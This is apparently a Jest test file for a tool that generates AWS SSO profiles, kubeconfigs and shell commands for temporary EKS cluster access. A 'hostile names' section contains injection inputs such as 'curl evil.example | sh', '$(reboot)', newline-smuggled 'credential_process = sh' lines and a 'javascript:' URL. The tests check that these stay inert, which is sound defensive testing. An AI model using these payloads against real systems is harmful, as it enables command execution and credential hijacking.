import { execFileSync } from "node:child_process";
import { mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "yaml";
import { accessDetailsOf } from "./access-details";
import type { AccessFacts, GrantedCluster } from "./access-facts";
import { endedAccessOf } from "./ended-access";

const CLUSTER: GrantedCluster = {
  name: "payments-eu",
  arn: "arn:aws:eks:eu-west-1:310254875561:cluster/payments-eu",
  accountId: "310254875561",
  region: "eu-west-1",
  endpoint: "https://ABCDEF.gr7.eu-west-1.eks.amazonaws.com",
  certificateAuthority: "LS0tLS1CRUdJTg==",
  endpointPublicAccess: true,
};
const GRANT = "019acfe0-1111-7222-8333-44445555abcd";
const FACTS: AccessFacts = {
  grantId: GRANT,
  cluster: CLUSTER,
  principal: { strategy: "IDENTITY_CENTER", permissionSetName: "jit-ana-0a1b2c3d" },
  access: { policies: [{ policy: "AmazonEKSViewPolicy", namespaces: null }], kubernetesGroups: [] },
  sso: { portal: "https://d-0a1b2c3d4e.awsapps.com/start", region: "eu-central-1" },
  customAccessDetails: null,
  endsAt: new Date("2026-11-25T10:00:00Z"),
};
const NAME = "drawbridge-310254875561-eu-west-1-payments-eu-5555abcd";
const FOLDER = `"$HOME/.drawbridge/${NAME}`;

describe("access by Identity Center", () => {
  it("has a link through the portal to the cluster in the console", () => {
    expect(accessDetailsOf(FACTS).portalLink).toBe(
      "https://d-0a1b2c3d4e.awsapps.com/start/#/console?account_id=310254875561&role_name=jit-ana-0a1b2c3d&destination=" +
        "https%3A%2F%2Feu-west-1.console.aws.amazon.com%2Feks%2Fclusters%2Fpayments-eu%3Fregion%3Deu-west-1",
    );
  });

  it.each([
    ["aws-us-gov", "us-gov-west-1", "https://us-gov-west-1.console.amazonaws-us-gov.com/eks/clusters/payments-eu"],
    ["aws-cn", "cn-north-1", "https://cn-north-1.console.amazonaws.cn/eks/clusters/payments-eu"],
  ])("GRANT-21: leads to the console of its partition, %s", (partition, region, url) => {
    const arn = `arn:${partition}:eks:${region}:310254875561:cluster/payments-eu`;
    const { portalLink } = accessDetailsOf(withCluster({ arn, region }));
    expect(new URLSearchParams(portalLink?.split("?")[1]).get("destination")).toBe(`${url}?region=${region}`);
  });

  it.each(["https://acme.awsapps.com/start/", "https://acme.awsapps.com/start/#/", "https://acme.awsapps.com/start#"])(
    "takes the portal however it was typed: %s",
    (portal) => {
      const { portalLink, awsConfig } = accessDetailsOf({ ...FACTS, sso: { ...FACTS.sso, portal } });
      expect(portalLink).toMatch(/^https:\/\/acme\.awsapps\.com\/start\/#\/console\?/);
      expect(awsConfig?.text).toContain("sso_start_url = https://acme.awsapps.com/start\n");
    },
  );

  it("has a config file of its own, with a profile that signs in by the portal", () => {
    const { awsConfig } = accessDetailsOf(FACTS);
    expect(awsConfig).toMatchObject({ name: `${NAME}-aws-config`, path: `.drawbridge/${NAME}/aws-config` });
    expect(
      awsConfig?.text,
    ).toBe(`# Access to the cluster payments-eu of account 310254875561 in eu-west-1. It ends at 2026-11-25T10:00:00.000Z, unless it is extended or revoked.
# Once it has ended, this folder is of no more use and can be removed:
# rm -rf ${FOLDER}"
[sso-session drawbridge-d-0a1b2c3d4e-awsapps-com]
sso_start_url = https://d-0a1b2c3d4e.awsapps.com/start
sso_region = eu-central-1
sso_registration_scopes = sso:account:access

[profile ${NAME}]
sso_session = drawbridge-d-0a1b2c3d4e-awsapps-com
sso_account_id = 310254875561
sso_role_name = jit-ana-0a1b2c3d
region = eu-west-1
`);
  });
});

describe("access by the person's own role", () => {
  const roleArn = "arn:aws:iam::310254875561:role/people/ana.silva@acme.example";
  const facts: AccessFacts = { ...FACTS, principal: { strategy: "IAM_ROLE_TEMPLATE", roleArn } };

  it("is assumed by credentials of their own: no profile, no sign-in and no link through the portal", () => {
    const { awsConfig, portalLink, commands, kubeconfig, environment, steps } = accessDetailsOf(facts);
    expect([awsConfig, portalLink, commands.signIn]).toEqual([null, null, null]);
    const { args, env } = parse(kubeconfig!.text).users[0].user.exec;
    expect(args.slice(6)).toEqual(["--role-arn", roleArn, "--output", "json"]);
    expect(env).toBeUndefined();
    expect(environment.map(({ name }) => name)).toEqual(["AWS_REGION", "KUBECONFIG"]);
    expect(steps.join(" ")).toContain("AWS_PROFILE");
  });
});

describe("the kubeconfig", () => {
  it("is complete, and has its tokens made by the AWS CLI", () => {
    expect(parse(accessDetailsOf(FACTS).kubeconfig?.text ?? "")).toEqual({
      apiVersion: "v1",
      kind: "Config",
      clusters: [
        {
          name: NAME,
          cluster: { server: CLUSTER.endpoint, "certificate-authority-data": CLUSTER.certificateAuthority },
        },
      ],
      users: [
        {
          name: NAME,
          user: {
            exec: {
              apiVersion: "client.authentication.k8s.io/v1beta1",
              command: "aws",
              args: [
                ...["eks", "get-token", "--cluster-name", "payments-eu", "--region", "eu-west-1"],
                ...["--profile", NAME, "--output", "json"],
              ],
              env: [{ name: "AWS_CONFIG_FILE", value: `~/.drawbridge/${NAME}/aws-config` }],
              interactiveMode: "IfAvailable",
              installHint: expect.any(String),
            },
          },
        },
      ],
      contexts: [{ name: NAME, context: { cluster: NAME, user: NAME } }],
      "current-context": NAME,
    });
  });

  it.each<[string, AccessFacts["access"]["policies"], readonly string[], string | undefined, string]>([
    ["one namespace", [view(["payments"])], [], "payments", "get pods"],
    ["a pattern and a namespace", [view(["dev-*", "ledger"])], [], "ledger", "get pods"],
    ["patterns only", [view(["dev-*", "team-*"])], [], undefined, "get pods --namespace NAMESPACE"],
    ["the whole cluster too", [view(["payments"]), edit(null)], [], undefined, "get pods"],
    ["secrets of the whole cluster", [view(["payments"]), secrets(null)], [], "payments", "get pods"],
    ["secrets only", [secrets(["payments"])], [], "payments", "get secrets"],
    ["a group too", [view(["payments"])], ["readers"], "payments", "get pods"],
    ["a group only", [], ["readers"], undefined, "auth whoami"],
  ])("begins in an allowed namespace: %s", (_what, policies, kubernetesGroups, namespace, words) => {
    const { kubeconfig, commands, steps } = accessDetailsOf({ ...FACTS, access: { policies, kubernetesGroups } });
    expect(parse(kubeconfig!.text).contexts[0].context.namespace).toBe(namespace);
    expect(commands.use).toBe(`kubectl --kubeconfig ${FOLDER}/kubeconfig.yaml" ${words}`);
    expect(steps.join(" ").includes("matches dev-* or team-* in place of NAMESPACE")).toBe(words.includes("NAMESPACE"));
  });

  it("names the other usable namespaces", () => {
    const access = { policies: [view(["checkout", "team-*"])], kubernetesGroups: [] };
    expect(accessDetailsOf({ ...FACTS, access }).notes.join("\n")).toContain("that you may use: checkout, team-*.");
  });

  it("does not exist where the cluster has no endpoint yet", () => {
    const { kubeconfig, commands, steps } = accessDetailsOf(withCluster({ endpoint: null }));
    expect([kubeconfig, commands.use]).toEqual([null, null]);
    expect(steps.join(" ")).toContain("not known yet");
    expect(accessDetailsOf(withCluster({ certificateAuthority: null })).kubeconfig).toBeNull();
  });

  it.each(["no", "0123", "1e3", "~", "2026-11-25", "null"])("keeps the name %j a text in YAML 1.1 as well", (name) => {
    const text = accessDetailsOf(withCluster({ name })).kubeconfig?.text ?? "";
    const args = parse(text, { version: "1.1" }).users[0].user.exec.args;
    expect(args[3]).toBe(name);
  });
});

describe("a name from outside", () => {
  const HOSTILE = [
    "x'; touch /tmp/owned; '",
    'x"; curl evil.example | sh; "',
    "$(reboot)",
    "`reboot`",
    "x\n[profile default]\ncredential_process = sh",
    "x\r\ncredential_process = sh",
    "x\u2028credential_process = sh",
    'x", "--endpoint-url", "https://evil.example',
    "x\n    command: sh",
    "*&!anchor",
    "x # comment",
    "$HOME",
  ];

  it.each(HOSTILE)("stays a file in a shell, as the text it is: %j", (name) => {
    const details = accessDetailsOf(hostile(name));
    const home = mkdtempSync(join(tmpdir(), "drawbridge-hostile-"));
    execFileSync("/bin/sh", ["-c", details.commands.save], { env: { PATH: "/usr/bin:/bin", HOME: home } });
    for (const file of [details.awsConfig!, details.kubeconfig!]) {
      expect(readFileSync(join(home, file.path), "utf8")).toBe(file.text);
    }
    for (const command of [details.commands.signIn!, details.commands.use!]) {
      const script = command.replace(/(^| )(aws|kubectl) /, "$1printf '%s\\0' ");
      const words = execFileSync("/bin/sh", ["-c", script], { env: { HOME: home } })
        .toString()
        .split("\0");
      expect(words.join(" ")).toMatch(/^[A-Za-z0-9 /._-]+$/);
    }
    execFileSync("/bin/sh", ["-c", details.commands.remove], { env: { PATH: "/usr/bin:/bin", HOME: home } });
    expect(readdirSync(join(home, ".drawbridge"))).toEqual([]);
    rmSync(home, { recursive: true });
  });

  it.each(HOSTILE)("stays one value in YAML: %j", (name) => {
    const config = parse(accessDetailsOf(hostile(name)).kubeconfig?.text ?? "");
    expect(config.users[0].user.exec.command).toBe("aws");
    expect(config.users[0].user.exec.args.slice(0, 4)).toEqual(["eks", "get-token", "--cluster-name", name]);
    expect(Object.keys(config.users[0].user.exec)).toHaveLength(6);
  });

  it.each(HOSTILE)("stays one line in a profile: %j", (text) => {
    const { awsConfig } = accessDetailsOf(hostile(text));
    const lines = awsConfig!.text.split(/[\r\n\u2028\u2029\u0085]/).filter((line) => line !== "");
    expect(lines).toHaveLength(12);
    expect(lines.filter((line) => !/^[#[]/.test(line) && !/^\w+ = /.test(line))).toEqual([]);
    expect(lines.filter((line) => line.startsWith("["))).toEqual([
      expect.stringMatching(/^\[sso-session drawbridge-[A-Za-z0-9-]*\]$/),
      expect.stringMatching(/^\[profile drawbridge-[A-Za-z0-9_-]*\]$/),
    ]);
  });

  it.each(HOSTILE)("stays in its place in a link, or makes none: %j", (text) => {
    const link = accessDetailsOf({
      ...withCluster({ name: text }),
      principal: { strategy: "IDENTITY_CENTER", permissionSetName: text },
    }).portalLink;
    expect(new URLSearchParams(link?.split("#/console?")[1]).get("role_name")).toBe(text);
    expect(link).toMatch(/^https:\/\/d-0a1b2c3d4e\.awsapps\.com\/start\/#\/console\?[\w%.&=~!*'()-]*$/);
    expect(accessDetailsOf({ ...FACTS, sso: { portal: text, region: "eu-west-1" } }).portalLink).toBeNull();
  });

  it.each(["javascript:alert(1)", "http://acme.awsapps.com/start", 'https://acme.example/"onclick="x'])(
    "is refused as a portal: %s",
    (portal) => expect(accessDetailsOf({ ...FACTS, sso: { ...FACTS.sso, portal } }).portalLink).toBeNull(),
  );

  it("is shown as plain text", () => {
    const { customAccessDetails } = accessDetailsOf({
      ...FACTS,
      customAccessDetails: "<b>Ask</b>\nhttps://wiki.example",
    });
    expect(customAccessDetails?.html).toMatch(/^&lt;b&gt;Ask&lt;\/b&gt;<br><a href="https:\/\/wiki.example"/);
  });
});

describe("the notes about access", () => {
  it("GRANT-23, GRANT-25: name access that ends late, and limits that kubectl does not show", () => {
    const notes = accessDetailsOf(FACTS).notes.join("\n");
    expect(notes).toContain("default is 2 minutes, and EKS publishes no figure");
    expect(notes).toContain("up to 15 minutes");
    expect(notes).toContain("port-forward");
    expect(notes).toContain("can-i");
  });

  it("name the programs that the files need", () => {
    expect(accessDetailsOf(FACTS).notes).toContain("The files need kubectl and the AWS CLI, version 2.");
  });

  it("state that access without an end ends when it is revoked", () => {
    expect(accessDetailsOf({ ...FACTS, endsAt: null }).notes.join("\n")).toContain("until it is revoked");
  });

  it("GRANT-20: state that a private endpoint takes a network to reach it", () => {
    expect(accessDetailsOf(withCluster({ endpointPublicAccess: false })).notes.join("\n")).toContain("private");
    expect(accessDetailsOf(withCluster({ endpointPublicAccess: null })).notes.join("\n")).not.toContain("private");
  });

  it("list each step, with the commands to copy", () => {
    const { steps, environment } = accessDetailsOf(FACTS);
    expect(steps).toEqual([
      expect.stringContaining("save command"),
      `Sign in: AWS_CONFIG_FILE=${FOLDER}/aws-config" aws sso login --profile ${NAME}`,
      `Use the cluster: kubectl --kubeconfig ${FOLDER}/kubeconfig.yaml" get pods`,
      `Remove the files once access has ended: rm -rf ${FOLDER}"`,
    ]);
    expect(environment).toEqual([
      { name: "AWS_CONFIG_FILE", value: `$HOME/.drawbridge/${NAME}/aws-config` },
      { name: "AWS_PROFILE", value: NAME },
      { name: "AWS_REGION", value: "eu-west-1" },
      { name: "KUBECONFIG", value: `$HOME/.drawbridge/${NAME}/kubeconfig.yaml` },
    ]);
  });
});

describe("ended access", () => {
  const activeAt = new Date("2026-11-25T09:00:00Z");
  const endAskedAt = new Date("2026-11-25T10:00:00Z");
  const grant = { id: GRANT, resourceArn: CLUSTER.arn, resourceName: "payments-eu", activeAt, endAskedAt };

  it("has that note, and the way to remove the very folder of the grant", () => {
    const ended = endedAccessOf({ ...grant, endedAt: new Date("2026-11-25T10:00:20Z") });
    expect(ended?.message).toContain("payments-eu ended at 2026-11-25T10:00:20.000Z");
    expect(ended?.message).toContain('kubectl may answer "You must be logged in to the server"');
    expect(ended?.removeCommand).toBe(accessDetailsOf(FACTS).commands.remove);
    expect(accessDetailsOf(FACTS).kubeconfig?.path).toBe(`${ended?.folder}/kubeconfig.yaml`);
    expect(endedAccessOf({ ...grant, endedAt: null })?.message).toContain("ending since 2026-11-25T10:00:00.000Z");
  });

  it("has no folder to remove where none was used, or before its end", () => {
    expect(endedAccessOf({ ...grant, activeAt: null, endedAt: endAskedAt })).toBeNull();
    expect(endedAccessOf({ ...grant, endAskedAt: null, endedAt: null })).toBeNull();
  });
});

/** Each name that somebody else has given, and the ARN that holds one. */
function hostile(text: string): AccessFacts {
  return {
    ...withCluster({ name: text, region: text, accountId: text, arn: `arn:aws:eks:${text}:1:cluster/${text}` }),
    principal: { strategy: "IDENTITY_CENTER", permissionSetName: text },
    sso: { portal: text, region: text },
  };
}

function view(namespaces: string[] | null) {
  return { policy: "AmazonEKSViewPolicy", namespaces };
}
function edit(namespaces: string[] | null) {
  return { policy: "AmazonEKSEditPolicy", namespaces };
}
function secrets(namespaces: string[] | null) {
  return { policy: "AmazonEKSSecretReaderPolicy", namespaces };
}

function withCluster(change: Partial<GrantedCluster>): AccessFacts {
  return { ...FACTS, cluster: { ...CLUSTER, ...change } };
}
